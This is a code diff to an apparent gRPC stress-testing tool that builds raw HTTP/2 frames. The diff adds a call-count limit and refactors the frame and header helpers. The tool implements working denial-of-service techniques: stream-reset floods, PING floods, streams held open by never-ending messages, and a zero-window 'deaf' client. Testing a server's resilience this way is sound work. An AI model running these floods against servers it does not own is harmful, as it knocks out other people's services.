@@ -33,9 +33,9 @@ class Plan:
     kind: a name of ATTACKS. paths: of the RPCs, in turn. token: "" for none. streams: open at once on a connection;
     fewer if the server says so. per_second: calls or pings of all connections together. bytes_per_second: of their
     messages (a gigabit line): the attacker shares the machine with the server, which must not wait for it. first: a
-    whole message before the one that never ends; hex. deaf: it accepts no replies. most_bytes: of messages, after which
-    the attack ends; 0: no limit. most_held_bytes: of messages on streams that are open; while they have as many, the
-    attack waits until the server ends some; 0: it never waits.
+    whole message before the one that never ends; hex. deaf: it accepts no replies. most_calls, most_bytes: of calls or
+    pings, and of messages, after which the attack ends; 0: no limit. most_held_bytes: of messages on streams that are
+    open; while they have as many, the attack waits until the server ends some; 0: it never waits.
     """
 
     kind: str
@@ -48,6 +48,7 @@ class Plan:
     bytes_per_second: int = 125_000_000
     first: str = ""
     deaf: bool = False
+    most_calls: int = 0
     most_bytes: int = 0
     most_held_bytes: int = 0
 
@@ -76,12 +77,13 @@ class Rate:
         self._plan = plan
         self._began = time.monotonic()
         self._spent = 0.0  # in seconds
+        self._calls = 0
         self._bytes = 0
         self.held_bytes = 0  # of messages on open streams
 
     @property
     def over(self) -> bool:
-        enough = 0 < self._plan.most_bytes <= self._bytes
+        enough = 0 < self._plan.most_calls <= self._calls or 0 < self._plan.most_bytes <= self._bytes
         return enough or time.monotonic() - self._began >= self._plan.seconds
 
     @property
@@ -92,6 +94,7 @@ class Rate:
     async def spend(self, calls: int = 0, count: int = 0) -> None:
         """Waits until that many more calls, or bytes of messages, may be sent."""
         self._spent = max(self._spent, time.monotonic() - self._began - 0.02)  # unused time does not accumulate
+        self._calls += calls
         self._bytes += count
         self._spent += calls / self._plan.per_second + count / self._plan.bytes_per_second
         if self.over:
@@ -131,7 +134,7 @@ class Connection:
             listening = asyncio.create_task(self._listen())
             try:
                 settings = struct.pack(">HI", WINDOW_SETTING, 0) if self._plan.deaf else b""
-                self._writer.write(PREFACE + _frame(SETTINGS, 0, 0, settings))
+                self._writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
                 await ATTACKS[self._plan.kind](self)
             except Over:
                 return
@@ -157,7 +160,7 @@ class Connection:
                 if self._plan.first:
                     message = bytes.fromhex(self._plan.first)
                     opening = struct.pack(">BI", 0, len(message)) + message + opening
-                self._writer.write(_frame(DATA, 0, stream, opening))
+                self._writer.write(frame(DATA, 0, stream, opening))
                 self._window -= len(opening)
                 self._windows[stream] -= len(opening)
                 rest[stream] = MESSAGE_BYTES - 1
@@ -171,7 +174,7 @@ class Connection:
                     await self._rate.spend(count=count)
                     if stream not in self._windows:
                         continue
-                    self._writer.write(_frame(DATA, 0, stream, bytes(count)))
+                    self._writer.write(frame(DATA, 0, stream, bytes(count)))
                     self._window -= count
                     self._windows[stream] -= count
                     rest[stream] -= count
@@ -188,7 +191,7 @@ class Connection:
             await self._rate.spend(calls=64)
             for _ in range(64):
                 stream = await self._begin(paced=True)
-                self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
+                self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
                 self._forget(stream)
                 self._sent.resets += 1
             await self._drain()
@@ -196,7 +199,7 @@ class Connection:
     async def ping(self) -> None:
         while True:
             await self._rate.spend(calls=64)
-            self._writer.write(_frame(PING, 0, 0, bytes(8)) * 64)
+            self._writer.write(frame(PING, 0, 0, bytes(8)) * 64)
             self._sent.pings += 64
             await self._drain()
 
@@ -204,20 +207,9 @@ class Connection:
         if not paced:
             await self._rate.spend(calls=1)
         path = self._plan.paths[self._sent.calls % len(self._plan.paths)]
-        headers = {
-            ":method": "POST",
-            ":scheme": "http",
-            ":path": path,
-            ":authority": "x",
-            "te": "trailers",
-            "content-type": "application/grpc",
-        }
-        if self._plan.token:
-            headers["authorization"] = f"Bearer {self._plan.token}"
         stream, self._next = self._next, self._next + 2
-        block = b"".join(b"\0" + _text(name) + _text(value) for name, value in headers.items())
         self._windows[stream] = self._stream_window
-        self._writer.write(_frame(HEADERS, END_HEADERS, stream, block))
+        self._writer.write(frame(HEADERS, END_HEADERS, stream, headers(path, self._plan.token)))
         self._sent.calls += 1
         if not paced:
             await self._drain()
@@ -270,7 +262,7 @@ class Connection:
                     for open_stream in self._windows:
                         self._windows[open_stream] += value - self._stream_window
                     self._stream_window = value
-            self._writer.write(_frame(SETTINGS, ACK, 0))
+            self._writer.write(frame(SETTINGS, ACK, 0))
         elif kind == WINDOW:
             more = int.from_bytes(payload, "big")
             if stream == 0:
@@ -278,11 +270,11 @@ class Connection:
             elif stream in self._windows:
                 self._windows[stream] += more
         elif kind == PING and not flags & ACK:
-            self._writer.write(_frame(PING, ACK, 0, payload))
+            self._writer.write(frame(PING, ACK, 0, payload))
         elif kind == RESET or (kind in (HEADERS, DATA) and flags & 1):
             self._forget(stream)
             if kind != RESET:  # the call has ended for the server only; reset the client's side
-                self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
+                self._writer.write(frame(RESET, 0, stream, struct.pack(">I", 8)))
         elif kind == GOAWAY:
             self._why = payload[8:].decode(errors="replace") or "goaway"
 
@@ -302,7 +294,23 @@ async def attack(target: str, plan: Plan) -> Sent:
     return sent
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+def headers(path: str, token: str = "") -> bytes:
+    """Returns the payload of the HEADERS frame that begins a call."""
+    fields = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": path,
+        ":authority": "x",
+        "te": "trailers",
+        "content-type": "application/grpc",
+    }
+    if token:
+        fields["authorization"] = f"Bearer {token}"
+    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Returns an HTTP/2 frame."""
     return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
 
 
